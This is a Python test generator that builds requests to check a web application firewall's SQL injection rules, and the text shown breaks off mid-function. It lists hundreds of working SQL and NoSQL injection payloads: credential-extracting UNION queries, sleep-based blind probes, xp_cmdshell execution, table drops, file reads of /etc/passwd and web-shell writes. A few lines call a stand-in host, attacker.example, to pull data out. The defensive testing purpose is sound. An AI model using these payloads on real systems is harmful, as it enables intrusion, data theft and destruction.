"""Blind positive tests for the SQL injection detection titles (CRS 3.3.4 942xxx at paranoia levels 1-2, plus the
request-rule titles CRS 4.x added), written the way a sixteenth rule author writes a rule's regression tests from
its title alone, and varied above all in WHERE the payload sits.

The set's angle: for each title, the canonical attack the title names, then one payload per alternative of its
family (each keyword, function, operator, comment form, database name and dialect: MySQL, MSSQL, PostgreSQL,
Oracle, SQLite, MS Access, MongoDB), 8 to 12 payloads per title, one sub-family per title (kebab-case from the
title; the generic "SQL Injection Attack" titles carry their rule id). Every payload is sent twice:
  * once to our real routes, in one of the places a rule of that title reads, rotating over: query values and
    query parameter names of /api/users, form values and field names of /admin/users/search (with csrf_token),
    JSON values of /api/users at depth 1 to 4 and inside arrays, JSON keys (top level and nested), XML element
    text and attribute values, multipart field values, field names and file names (/admin/users/import,
    /me/avatar), cookie values and cookie names, the User-Agent, the Referer, X-Forwarded-For and X-Api-Filter,
    the URL path (a whole segment, a matrix parameter, the file name at the end) and raw bodies (text/plain, a
    form-typed body that is not key=value, a bare JSON string);
  * once the way a WAF's regression suite sends it (placements prefixed "rs-"): to paths that are not our routes
    (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo,
    var, x, test, id, arg1), as a query string, a parameter name, a form body, a JSON body, an XML body, a raw
    form-typed body, a multipart body, or in the User-Agent, the Referer, a custom header or a cookie.
Each payload keeps the shape it must have in its place to work: percent-encoded in URIs, escaped in XML, never a
line break, a NUL or a non-ASCII character in a header, no "=" or ";" in a cookie name, no double quote in a
multipart name or file name (a payload that cannot sit in a place moves on to the next place of the rotation).
Title "integer overflow" values stand alone (the whole value) and are JSON numbers where they are integers; the
MongoDB operators go where they work: bracketed parameter and field names, JSON objects and JSON keys.

The benign half carries the same words innocently, as real users type them, in the same kinds of places: Slack
messages and bios (chat_and_bio), searches, names and addresses, profile JSON at depth, XML imports, uploads
with ordinary file names, cookies, browser headers, path slugs, bracketed filter names, and a regression
suite's negative tests on its own paths.

Authorship and independence: written for this repository from general knowledge of SQL injection and from the
rule titles alone; no WAF rule, engine file, ruleset regression test, other blind set or public payload list was
read. Measured once through the real stack on unchanged code. Deterministic (seeded random only).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import numbered, print_records

NAME = "hundredfifteenth"

BROWSER_UA = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
]
RS_UA = "waf-regression-suite/1.0"
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]

# (rule id, sub-family, payloads); an entry is a payload, or (payload, real placement, rs placement) where the
# payload only works in a particular kind of place.
Entry = str | tuple[str, str, str]
TITLES: list[tuple[str, str, list[Entry]]] = [
    ("942100", "libinjection-sqli", [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "' AND 1=CONVERT(int,(SELECT @@version))--",
        "1; DROP TABLE users--",
        "admin'--",
        "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -",
        "1' || (SELECT banner FROM v$version WHERE rownum=1) || '",
        "1'; SELECT current_setting('server_version')--",
        "1 AND sqlite_version()=sqlite_version()",
        "-1' UNION ALL SELECT NULL,NULL,NULL#",
        "1) OR (1=1",
        "\" OR \"\"=\"",
    ]),
    ("942140", "common-db-names", [
        "1 UNION SELECT table_name FROM information_schema.tables--",
        "' UNION SELECT name FROM master..sysdatabases--",
        "1 UNION SELECT user,host FROM mysql.user#",
        "1 AND (SELECT COUNT(*) FROM mysql.db)>0",
        "' UNION SELECT Name FROM MSysObjects WHERE Type=1--",
        "x' AND (SELECT COUNT(*) FROM MSysAccessObjects)>0 AND 'a'='a",
        "1 UNION SELECT relname FROM pg_catalog.pg_class--",
        "1 UNION SELECT chunk_data FROM pg_toast.pg_toast_2618--",
        "'; SELECT * FROM tempdb..sysobjects--",
        "1 UNION SELECT CompanyName FROM Northwind.dbo.Customers--",
        "1 UNION SELECT name, sql FROM sqlite_master--",
        "1 UNION SELECT username FROM dba_users--",
    ]),
    ("942160", "blind-sleep-benchmark", [
        "1 AND SLEEP(5)",
        "1' AND SLEEP(5)-- -",
        "1 OR BENCHMARK(10000000,MD5(1))",
        "' || sleep(10) || '",
        "1;SELECT SLEEP(3)#",
        "sleep(5)#",
        "benchmark(5000000,sha1('x'))",
        "1 AND (SELECT * FROM (SELECT SLEEP(5))a)",
        "(select(0)from(select(sleep(6)))v)/*'+(select(0)from(select(sleep(6)))v)+'\"+(select(0)from(select("
        "sleep(6)))v)+\"*/",
        "1 AND SLEEP  (5)",
        "xor(if(now()=sysdate(),sleep(5),0))or'",
    ]),
    ("942170", "conditional-sleep-benchmark", [
        "1 AND IF(1=1,SLEEP(5),0)",
        "SELECT IF(SUBSTRING(user(),1,1)='r',BENCHMARK(5000000,MD5('a')),null)",
        "1' AND (SELECT CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END)-- -",
        "1 OR IF(ASCII(MID(database(),1,1))>64,SLEEP(3),1)",
        "';SELECT IF(1,SLEEP(5),0)#",
        "1 UNION SELECT IF(1=1,BENCHMARK(1000000,SHA1(1)),0)",
        "1' AND IF(LENGTH(version())>3,sleep(4),0) AND '1'='1",
        "if(now()=sysdate(),sleep(5),0)",
        "SELECT BENCHMARK(2000000,ENCODE('a','b'))",
        "1 AND 1=(SELECT IF((SELECT COUNT(*) FROM users)>0,SLEEP(5),0))",
    ]),
    ("942190", "mssql-code-execution-information-gathering", [
        "'; EXEC master..xp_cmdshell 'whoami'--",
        "1; EXECUTE xp_cmdshell 'net user'--",
        "1; exec master.dbo.xp_dirtree '\\\\attacker.example\\a'--",
        "' UNION SELECT @@version--",
        "1 UNION SELECT current_user()",
        "1 AND database()='app'",
        "1 UNION SELECT user(),2",
        "1 AND schema()=0x617070",
        "' select connection_id()--",
        "1 INTO OUTFILE '/var/www/html/x.php'",
        "x' AND iif(1=1,1,0)=1--",
        "1 UNION SELECT name FROM sys.databases; EXEC sp_configure 'xp_cmdshell',1--",
    ]),
    ("942220", "integer-overflow-magic-number", [
        "4294967295",
        "4294967296",
        "2147483648",
        "2147483647",
        "-2147483648",
        "-2147483649",
        "0000012345",
        "-0000023456",
        "2.2250738585072011e-308",
        "2.2250738585072007e-308",
        "1e309",
        "3.0.00738585072007e-308",
    ]),
    ("942230", "conditional-sqli", [
        "1 HAVING 1=1--",
        "' GROUP BY id HAVING 1=1--",
        "1 AND IF(1=1,1,0)",
        "1' AND if(1>0,'a','b')='a",
        "1 OR (CASE(1) WHEN 1 THEN 1 END)=1",
        "x') LIKE ('x",
        "1 AND IIF(1=1,1,0)=1",
        "1 AND DECODE(1,1,1,0)=1",
        "1 AND CASE WHEN (1=1) THEN 1 ELSE 1/0 END=1",
        "1 AND NULLIF(1,1) IS NULL",
        "1 AND ELT(1=1,'a')='a'",
    ]),
    ("942240", "mysql-charset-switch-mssql-dos", [
        "1; ALTER TABLE users CHARACTER SET utf8mb4--",
        "'; ALTER DATABASE app CHARACTER SET latin1;--",
        "1; alter table t convert to char set big5",
        "'; WAITFOR DELAY '0:0:5'--",
        "\"; waitfor time '23:59:59'--",
        "';waitfor delay '00:00:10'--",
        "'; lbl: goto lbl--",
        "'; while 1=1 begin select 1 end--",
        "1; SET NAMES gbk--",
        "1; SET CHARACTER SET sjis--",
        "1 AND CONVERT('x' USING latin1)='x'",
        "'; alter database current collate Latin1_General_CI_AS--",
    ]),
    ("942250", "match-against-merge-execute-immediate", [
        "1 AND MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)",
        "x' OR MATCH(name,bio) AGAINST ('root')-- -",
        "match (password) against ('a*' in boolean mode)",
        "'; MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--",
        "1; merge users using staging on 1=1 when not matched then insert values (1)--",
        "'; EXECUTE IMMEDIATE 'DROP TABLE users';--",
        "BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO scott'; END;",
        "execute   immediate 'select 1 from dual'",
        "1 AND MATCH (a) AGAINST (0x61 WITH QUERY EXPANSION)",
        "'||(SELECT 1 FROM dual WHERE MATCH(c) AGAINST('x'))||'",
    ]),
    ("942270", "basic-sqli-union-select-from", [
        "1 UNION SELECT username FROM users",
        "' union select password from admin--",
        "-1 UNION ALL SELECT 1,2,table_name FROM information_schema.tables",
        "1 union select banner from v$version",
        "1 UNION SELECT null, sql FROM sqlite_master",
        "1 UNION SELECT name FROM sys.tables",
        "1 UNION SELECT usename FROM pg_user",
        "0 UnIoN SeLeCt 1 FrOm dual",
        "1/*!UNION*/ SELECT email FROM accounts",
        "1 UNION DISTINCT SELECT col FROM t",
        "1\nUNION\nSELECT\npassword\nFROM\nusers",
        "') UNION SELECT 1,2 FROM users WHERE ('a'='a",
    ]),
    ("942280", "pg-sleep-waitfor-delay-shutdown", [
        "1; SELECT pg_sleep(5)--",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
        "'||pg_sleep(10)--",
        "1; WAITFOR DELAY '0:0:5'--",
        "1 waitfor delay '00:00:05'",
        "'; SHUTDOWN--",
        "1; shutdown with nowait;--",
        "'; SELECT pg_sleep_for('5 seconds')--",
        "1;select dbms_lock.sleep(5) from dual--",
        "1 AND (SELECT 1 FROM (SELECT pg_sleep(5))x)",
        "\"; waitfor delay '0:0:10'--",
        "1);SHUTDOWN;--",
    ]),
    ("942290", "mongodb-nosql-injection", [
        ("username[$ne]", "param-name", "rs-param-name"),
        ("password[$gt]", "form-name", "rs-form-name"),
        ('{"$ne": null}', "json", "rs-json"),
        ('{"$gt": ""}', "json-depth2", "rs-json-nested"),
        ('{"$regex": "^adm"}', "json-depth3", "rs-json"),
        ('{"$where": "sleep(5000) || true"}', "json-array-nested", "rs-json-array"),
        ("$where", "json-key", "rs-json-key"),
        ("login[$regex]", "multipart-name", "rs-query-name-only"),
        ("role[$in][]", "cookie-name", "rs-cookie-name"),
        ('{"$or": [{"a": 1}, {"b": {"$exists": true}}]}', "json-depth4", "rs-raw-json"),
        ("'; return this.role == 'admin' && ''=='", "query", "rs-query"),
        ("[$nin][]=guest", "raw-body:form", "rs-raw-form"),
    ]),
    ("942320", "mysql-postgres-stored-procedure-function", [
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)",
        "1; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'--",
        "'; CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE C "
        "STRICT--",
        "1; DECLARE @q varchar(99); SET @q='SELECT 1'; EXEC(@q)--",
        "'; exec (@cmd)--",
        "1; CALL mysql.rds_kill(1)--",
        "'; DROP PROCEDURE IF EXISTS p; CREATE PROCEDURE p() SELECT 1--",
        "1; DO $$ BEGIN PERFORM pg_sleep(1); END $$--",
        "'; SELECT lo_import('/etc/passwd')--",
        "1; SELECT pg_read_file('postgresql.conf')--",
        "1;declare @s varchar(8000) set @s=0x73656c65637420 exec(@s)--",
        "'; COPY (SELECT '') TO PROGRAM 'id'--",
    ]),
    ("942350", "mysql-udf-data-structure-manipulation", [
        "1; CREATE FUNCTION do_system RETURNS INTEGER SONAME 'raptor_udf2.so'",
        "'; DROP TABLE users--",
        "1; TRUNCATE TABLE audit_log--",
        "1; UPDATE users SET role='admin' WHERE id=1--",
        "'; INSERT INTO users(name,role) VALUES('eve','admin')--",
        "1; DELETE FROM sessions--",
        "1; ALTER TABLE users ADD backdoor int--",
        "'; RENAME TABLE users TO users_old--",
        "1; LOAD DATA INFILE '/etc/passwd' INTO TABLE t--",
        "1; SELECT sys_exec('id')--",
        "1; DESC users--",
        "'; CREATE TABLE pwn(x text)--",
    ]),
    ("942360", "concatenated-sqli-sqllfi", [
        "1 union select 1,2",
        "-1' union all select null--",
        "' select name from users",
        "1) UNION (SELECT 1)",
        "' AND LOAD_FILE('/etc/passwd')-- -",
        "1 UNION SELECT LOAD_FILE(0x2f6574632f706173737764)",
        "load_file('/etc/hosts')",
        "1' INTO OUTFILE '/tmp/x'--",
        "'; alter user root identified by 'x'--",
        "9 select user from dual",
        "') union distinct select @@datadir#",
        "1 select pg_read_file('/etc/passwd')",
    ]),
    ("942500", "mysql-inline-comment", [
        "1 /*!UNION*/ /*!SELECT*/ 1,2",
        "/*!50000select*/ user()",
        "1'/*!AND*/1=1-- -",
        "/*!12345UNION SELECT*/ 1",
        "1 /*!or*/ 1=1",
        "/*! sleep(5)*/",
        "x'/*!50718 OR*/'1'='1",
        "1/*!00000and*/ 2>1",
        "/*!30000union all select 1*/",
        "/*!32302 1/0, */ 1",
    ]),
    ("942110", "common-injection-testing", [
        "'",
        "\"",
        "`",
        "';",
        "1'",
        "admin\"",
        "test`",
        "'' ",
        ";'",
        "\"\"",
        "abc' ",
        "  '",
    ]),
    ("942120", "sql-operator", [
        "1 NOT BETWEEN 0 AND 1",
        "' OR name LIKE BINARY 'a%'",
        "x' OR 1 RLIKE 1-- -",
        "' OR user REGEXP '^adm'-- -",
        "1 OR 1<=>1",
        "' OR 'a' SOUNDS LIKE 'a",
        "1 OR password IS NULL",
        "1 OR 2 DIV 1",
        "1 OR 3 XOR 2",
        "'a' NOT LIKE 'b'",
        "1 OR name SIMILAR TO 'a%'",
        "1 OR name ~* '^adm'",
    ]),
    ("942130", "sql-tautology", [
        "1' OR 'a'='a",
        "' OR 1=1",
        "\" or \"x\"=\"x",
        "' or 'abc' like 'abc",
        "1 OR 2<=>2",
        "' OR x RLIKE x-- -",
        "') OR ('q'='q",
        "` or `a`=`a",
        "' OR 'z' REGEXP 'z",
        "or 7 sounds like 7",
        "' OR 1<>2-- -",
    ]),
    ("942150", "sql-injection-attack-942150-functions", [
        "1 AND ASCII(SUBSTRING(user(),1,1))>64",
        "x' AND LENGTH(database())>1-- -",
        "1 OR CHAR(65)='A'",
        "' AND CONCAT_WS(0x3a,user,pass) IS NOT NULL-- -",
        "1 AND ORD(MID(version(),1,1))>51",
        "1 AND HEX(USER())",
        "' AND UNHEX('41')='A",
        "1 AND FLOOR(RAND(0)*2)",
        "1 OR INSTR(user(),'r')>0",
        "1 AND JSON_KEYS('{}') IS NULL",
        "1 AND COALESCE(NULL,1)=1",
        "1 AND UTL_INADDR.GET_HOST_NAME('x') IS NULL",
    ]),
    ("942180", "auth-bypass-1-of-3", [
        "admin'--",
        "admin\" --",
        "' or 1=1--",
        "\" or \"\"=\"",
        "'='",
        "'+'",
        "' like '%",
        "' or x is 0 -",
        "x' where user.id = 1",
        "'<>'",
        "' != 1 or 'a",
        "admin'/*",
    ]),
    ("942200", "comment-space-obfuscation-backtick", [
        "1,(select/**/user/**/from/**/dual)",
        "'/**/union/**/select/**/password/**/from/**/users#",
        "1 and select(space(0))",
        "a,b'`c",
        "(select`user`from`mysql`.`user`)",
        "x`,`y",
        "1,'x'`",
        "1/**/AND/**/1=1",
        "SeLeCt/*x*/pass/*x*/FrOm/*x*/users",
        "1'\tor\t'1'='1",
        "insert(space(1),1,1,'x')",
        "1+union+select+1+from+dual",
    ]),
    ("942210", "chained-sqli-1-of-2", [
        "1 and a=1 having 1=1",
        "' like '1",
        "1 or x=1 having count(*)>1",
        "' || 'a'='a",
        "1 && 1=1",
        "1' xor 1=1-- -",
        "' between 1 and 2--",
        "1 div 0 or 1",
        "x' AND 1 LIKE 1#",
        "' and substring(password,1,1)='a",
        "1 or id=1 having 1",
    ]),
    ("942260", "auth-bypass-2-of-3", [
        "' and 1=1 having 1=1--",
        "\" or a=a having 1--",
        "' like 'a",
        "' | @@version",
        "'*id or'",
        "' || 'x",
        "'; @v",
        "admin' ^ 1 -- -",
        "' div 1 like 1",
        "' xor name=name having 1 --",
        "' & @a or 'b",
        "\"= \"x\" or 1",
    ]),
    ("942300", "mysql-comments-conditions-char", [
        "case (id) when 1 then 'a' end",
        "admin'#",
        "1' #comment",
        "1 -- {fn now()}",
        "/*!50000 select*/ 1",
        "CHAR(39)",
        "1 OR CHR(65)||CHR(66)='AB'",
        "x' and ascii(a)>1",
        "1 || version()",
        "1 && sleep(1)",
        "1 or substring(a,1)",
        "' XOR md5(1)",
    ]),
    ("942310", "chained-sqli-2-of-2", [
        "1 AND (SELECT password FROM users LIMIT 1)='a'",
        "' AND 1=(select count(*) from users)--",
        "1 ORDER BY IF(1=1,1,(select 1 union select 2))",
        "1 order by ifnull(1,1)",
        "coalesce(null,(select 1))",
        "'; begin declare @x int end--",
        "' && 1",
        "'||1",
        "1;end;--",
        "' or 2#",
        "(select user)",
    ]),
    ("942330", "classic-sqli-probing-1-of-3", [
        "' or 1",
        "' and 2>1",
        "\\x27 or 1",
        "a'",
        "1 and a+1",
        "x' xor 1",
        "@var or 1",
        "@a and 'x'",
        "'div 1",
        "1' between 1",
        "\\x3d\\x3d",
        "1 or 'a'-'b",
    ]),
    ("942340", "auth-bypass-3-of-3", [
        "1 IN (SELECT id FROM admins)",
        "' 1--",
        "'1#",
        "'=1 or 1",
        "' or x regexp ('a')",
        "1 and x sounds like 'x",
        "' and 1=1x",
        "'%1 or",
        "' is 1 and 'a",
        "1 AND 1 IN ((SELECT 1))",
        "\"^1=1",
    ]),
    ("942361", "alter-or-union-keyword", [
        "1 union select 1",
        "' union all select null--",
        "1) UNION SELECT 2",
        "'; alter table users drop column pw",
        "-1 UNION ALL SELECT user,pass",
        "9 alter user admin",
        "\" UNION SELECT @@version#",
        "')) union distinct select 1",
        "1 UNION(SELECT 1)",
        "'; ALTER LOGIN sa WITH PASSWORD='x'--",
    ]),
    ("942370", "classic-sqli-probing-2-of-3", [
        "' * id or '1",
        "' or username like 0",
        "' div x>1",
        "'^1",
        "'|1",
        "'&1",
        "\"*foo and \"1",
        "' xor bar 2",
        "' like a 1",
        "' between a and 9",
        "'+1 or 1",
    ]),
    ("942380", "sql-injection-attack-942380", [
        "1 HAVING 1=1",
        "' having '1'='1",
        "1 AND EXISTS(SELECT * FROM users)",
        "1 UNION ALL SELECT 1",
        "1; EXECUTE('select 1')",
        "1 OR EXISTS (SELECT 1 FROM dual)",
        "1 order by 1--",
        "1 group by id having count(*)>1",
        "; drop table x",
        "1 AND NOT EXISTS(SELECT 1)",
        "x' union all select @@version-- -",
        "1 LIMIT 1 OFFSET 1--",
    ]),
    ("942390", "sql-injection-attack-942390", [
        "1 or 1=1",
        "x or 'a'='a'",
        "' OR 2>1",
        "1 xor 1=1",
        "1 or \"ab\"=\"ab\"",
        "x' or 3<5-- -",
        "1 OR 100>=99",
        "' xor 'x'<>'y'",
        "a or 5 = 5",
        "0 or 0x41=0x41",
        "z or 'admin'!='guest'",
    ]),
    ("942400", "sql-injection-attack-942400", [
        "1 and 1=1",
        "1' and 'a'='a",
        "x and 2>1",
        "1 AND \"x\"=\"x\"",
        "1 and 3<4",
        "' and 'b'<>'c",
        "1 AND 10>=1-- -",
        "id and 'q'='q'",
        "1 and 0x1=1",
        "test and 1<2",
    ]),
    ("942410", "sql-injection-attack-942410", [
        "1 AND AES_DECRYPT(x,'k')",
        "1 AND BIT_LENGTH(user())>0",
        "1 AND CRC32(1)=1",
        "' AND CURRENT_SETTING('server_version') IS NOT NULL--",
        "1 AND DATABASE_TO_XML(true,true,'')",
        "1 AND EXTRACTVALUE(1,0x7e)",
        "1 AND FIND_IN_SET('a','a,b')",
        "1 AND GROUP_CONCAT(name)",
        "1 AND INET_ATON('1.2.3.4')",
        "1 AND GET_LOCK('a',5)",
        "1 AND FROM_BASE64('YQ==')='a'",
        "1 AND UPDATEXML(1,concat(0x7e,user()),1)",
    ]),
    ("942470", "sql-injection-attack-942470", [
        "'; EXEC sp_oacreate 'wscript.shell', @o OUT--",
        "1; exec sp_addextendedproc 'xp_x','x.dll'",
        "'; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft','x'--",
        "1; EXEC sp_makewebtask 'c:\\inetpub\\x.html','select 1'",
        "1 UNION SELECT * FROM OPENROWSET('SQLOLEDB','server=x;uid=sa','select 1')",
        "'; SELECT * FROM OPENQUERY(lnk,'select 1')--",
        "1; exec xp_servicecontrol 'start','schedule'",
        "'; EXEC sp_executesql N'select 1'--",
        "1; EXEC sp_password NULL,'x','sa'",
        "' AND UTL_HTTP.REQUEST('http://attacker.example/')=1--",
        "1; EXEC xp_dirtree '\\\\attacker.example\\x'",
        "' || dbms_java.runjava('x')||'",
    ]),
    ("942480", "sql-injection-attack-942480", [
        "x'; DELETE FROM users WHERE 1=1--",
        "'; INSERT INTO logs VALUES(1)--",
        "1; UPDATE users SET admin=1",
        "1 INTO OUTFILE '/tmp/a'",
        "1 INTO DUMPFILE '/var/www/s.php'",
        "1; LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
        "SELECT name FROM users WHERE id=1",
        "1 INNER JOIN admins ON 1=1",
        "1 GROUP BY id HAVING 1=1",
        "SELECT DBMS_PIPE.RECEIVE_MESSAGE('a',5) FROM dual",
        "SELECT COUNT(*) FROM users",
        "SELECT OVERLAY(password PLACING 'x' FROM 1) FROM users",
    ]),
    ("942430", "restricted-sql-char-anomaly-args", [
        "'))));--+-#'\"`@@@",
        "';;;;!!!!@@@@$$$$",
        "1')))) OR (((('1'='1",
        "((((((((((((1))))))))))))",
        "'||'a'||'b'||'c'||'d'||'",
        "@@@@@@@@@@@@version",
        "=-=-=-=-=-=-=-",
        "1;'--;\"--;`--;#",
        "[[[]]]{{{}}}|||:::",
        "~!@#$%^&*()_+{}|:<>?",
        "')/**/OR/**/('x'='x'/**/--/**/-",
        "1')) AND (('a'='a'))-- -",
    ]),
    ("942440", "sql-comment-sequence", [
        "admin'--",
        "1;--",
        "1 -- comment",
        "1/*comment*/",
        "x'#\n",
        "1 --x-",
        "1 */",
        "/*! */",
        "1; -- \n",
        "' OR 1=1 #\t",
        "1;\x00",
        "1'/**/OR/**/1",
    ]),
    ("942450", "sql-hex-encoding", [
        "0x61646d696e",
        "1 UNION SELECT 0x3c3f70687020",
        "' OR username=0x61646d696e-- -",
        "0x414243",
        "0X7E7E7E",
        "1 AND 0x31=0x313",
        "LOAD_FILE(0x2f6574632f706173737764)",
        "0xDEADBEEF",
        "x' AND password LIKE 0x256125-- -",
        "CONCAT(0x7e,0x3a3a,version())",
        "0x5F5F5F",
        "x'61646d696e'",
    ]),
    ("942510", "sqli-bypass-ticks-backticks", [
        "`id`",
        "`users`",
        "SELECT `password` FROM `users`",
        "1 or `a`=`a`",
        "\u00b4or 1=1\u00b4",
        "`YWRtaW4=`",
        "`(select 1)`",
        "`-1 union select 1`",
        "`a`.`b`",
        "\u00b4admin\u00b4",
        "\u2018 or \u20191\u2019=\u20191",
        "`x` = `x`",
    ]),
    ("crs4-942550", "json-based-sqli", [
        "'{\"a\":1}' @> '{\"a\":1}'",
        "1 OR '{\"b\":2}'::jsonb <@ '{\"b\":2}'::jsonb",
        "' OR '{\"a\":1}'::json->>'a'='1",
        "1 OR JSON_EXTRACT('{\"id\":14}','$.id')=14",
        "' OR json_extract(data,'$.role')='admin'-- -",
        "1 OR '[1]'::jsonb ? '1'",
        "' OR '{\"a\":{\"b\":1}}' #> '{a,b}' IS NOT NULL--",
        "1 OR '{\"x\":1}'::jsonb ?| array['x']",
        "x' || '{\"r\":1}' <@ '{\"r\":1,\"s\":2}'-- -",
        "1 AND '[1,2]' @> '[1]'",
        "' AND JSON_VALID('{}')-- -",
    ]),
    ("crs4-942560", "mysql-scientific-notation", [
        "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70 "
        "or'1'='2",
        "1.e(user())",
        "2.e(1)",
        "'1.e(password)'",
        "0.e(select 1)",
        "1.e,1",
        "test' OR 1.e(1)=1.e(1)",
        "1.e)",
        "1e1union select 1",
        "0.1e1union select password from users",
        "1.0e(1)",
    ]),
    ("crs4-942540", "auth-bypass-split-query", [
        "admin'/*",
        "*/ OR 1=1 -- ",
        "'/*",
        "a'||'",
        "'; --",
        "x' /* ",
        "\";/*",
        "'-0-'",
        "'&'",
        "'^'",
        "'*'",
        "'+ 0 +'",
    ]),
    ("crs4-942520", "auth-bypass-4-of-4", [
        "' IS NOT NULL-- -",
        "' in ('a')-- -",
        "' NOT IN (1)#",
        "'IS NULL OR '",
        "' not like 'x",
        "\" <> \"x",
        "admin' or '",
        "x' and 'y",
        "' GLOB '*",
        "' ILIKE 'a%",
        "'=0--+",
        "'-''-'",
    ]),
]

REAL = ["query", "param-name", "form", "form-name", "json", "json-depth2", "json-depth3", "json-depth4",
        "json-array", "json-array-nested", "json-key", "json-key-nested", "xml", "xml-attr", "multipart-field",
        "multipart-name", "multipart-filename", "cookie", "cookie-name", "header:User-Agent", "header:Referer",
        "header:X-Forwarded-For", "header:X-Api-Filter", "path", "path-matrix", "path-file",
        "raw-body:text-plain", "raw-body:form", "raw-body:json-string"]
RS = ["rs-query", "rs-param-name", "rs-form", "rs-form-name", "rs-json", "rs-json-nested", "rs-json-array",
      "rs-json-key", "rs-xml", "rs-xml-attr", "rs-raw-form", "rs-raw-text", "rs-multipart-field",
      "rs-multipart-filename", "rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-cookie",
      "rs-cookie-name", "rs-path"]
# "(args)" titles read arguments only; the integer overflow title reads whole values.
ARGS_REAL = ["query", "form", "json", "json-depth2", "json-depth3", "json-depth4", "json-array",
             "json-array-nested", "multipart-field", "raw-body:form"]
ARGS_RS = ["rs-query", "rs-form", "rs-json", "rs-json-nested", "rs-json-array", "rs-multipart-field"]
WHOLE_REAL = ARGS_REAL + ["cookie", "xml", "path", "path-file", "header:X-Api-Filter"]
WHOLE_RS = ARGS_RS + ["rs-cookie", "rs-xml", "rs-header:X-Custom", "rs-path"]
PLACES = {"942430": (ARGS_REAL, ARGS_RS), "942220": (WHOLE_REAL, WHOLE_RS)}


def fits(place: str, p: str) -> bool:
    """Whether payload p can sit in the place as it must appear there to work."""
    base = place.removeprefix("rs-")
    if (base.startswith("header:") or base.startswith("cookie")) and (
            any(c in p for c in "\r\n\x00") or not p.isascii()):
        return False
    if base == "cookie-name" and (any(c in p for c in "=;,") or p != p.strip() or not p):
        return False
    if base in ("multipart-name", "multipart-filename") and any(c in p for c in "\"\r\n\x00"):
        return False
    if (base in ("xml", "xml-attr") or base.startswith("path")) and "\x00" in p:
        return False
    return not (base in ("param-name", "form-name") and not p.strip())


class Builder:
    """Request shapes: our routes with a browser's or an API client's headers, the regression suite's own."""

    def __init__(self) -> None:
        self.rng = random.Random(115115)
        self.k = 0

    def tok(self, n: int = 24) -> str:
        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
                       for _ in range(n))

    def browser(self, accept: str = "application/json", cookie_extra: str = "") -> dict[str, str]:
        self.k += 1
        h = {"User-Agent": BROWSER_UA[self.k % len(BROWSER_UA)], "Accept": accept,
             "Accept-Language": ["en-US,en;q=0.9", "de-DE,de;q=0.8,en;q=0.5", "fr-FR,fr;q=0.9"][self.k % 3],
             "Accept-Encoding": "gzip, deflate, br",
             "Referer": ["https://app.example.com/users", "https://app.example.com/admin/users",
                         "https://app.example.com/settings"][self.k % 3],
             "Cookie": f"session={self.tok()}; consent=analytics%3A0" + cookie_extra}
        return h

    @staticmethod
    def rs_headers() -> dict[str, str]:
        return {"User-Agent": RS_UA, "Accept": "*/*"}

    def multipart(self, fields: list[tuple[str, str, str | None]]) -> tuple[str, str]:
        """A multipart/form-data body of (name, value, filename) parts and its Content-Type."""
        b = "----WebKitFormBoundary" + self.tok(16)
        parts = []
        for name, value, filename in fields:
            disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
            ctype = "Content-Type: image/png\r\n" if filename is not None else ""
            parts.append(f"--{b}\r\nContent-Disposition: {disp}\r\n{ctype}\r\n{value}\r\n")
        return "".join(parts) + f"--{b}--\r\n", f"multipart/form-data; boundary={b}"


def q(s: str) -> str:
    """Percent-encoded for a query string (as a browser encodes it)."""
    return urllib.parse.quote(s, safe="")


def seg(s: str) -> str:
    """Percent-encoded for a path segment."""
    return urllib.parse.quote(s, safe="-._~!$'()*,:@")


def cookie_value(s: str) -> str:
    return urllib.parse.quote(s, safe=" !#$&'()*+-./:<=>?@[]^_`{|}~\"")


def xml_text(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xml_attr(s: str) -> str:
    return xml_text(s).replace('"', "&quot;")


def json_value(sub: str, p: str) -> Any:
    """A NoSQL operator object is sent as JSON, an integer as a JSON number; anything else as a string."""
    if sub == "mongodb-nosql-injection" and p.startswith("{"):
        return json.loads(p)
    if sub == "integer-overflow-magic-number" and p.lstrip("-").isdigit() and not p.lstrip("-").startswith("0"):
        return int(p)
    return p


def real_request(b: Builder, place: str, p: str, sub: str, i: int) -> dict[str, Any]:
    v = json_value(sub, p)
    if place == "query":
        uri = f"/api/users?page={1 + i % 3}&q={q(p)}&per_page=20" if i % 2 else f"/api/users?q={q(p)}&page=1"
        return {"method": "GET", "uri": uri, "body": "", "headers": b.browser()}
    if place == "param-name":
        return {"method": "GET", "uri": f"/api/users?page=1&{q(p)}=1", "body": "", "headers": b.browser()}
